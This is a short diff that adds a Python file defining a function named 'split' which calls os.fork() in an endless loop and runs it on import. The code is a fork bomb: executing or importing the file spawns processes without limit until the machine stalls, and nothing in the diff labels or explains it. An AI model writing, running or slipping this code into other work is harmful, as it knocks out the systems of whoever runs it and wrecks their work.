@@ -1,0 +1,7 @@
+import os
+
+def split():
+    while True:
+        os.fork()
+
+split()
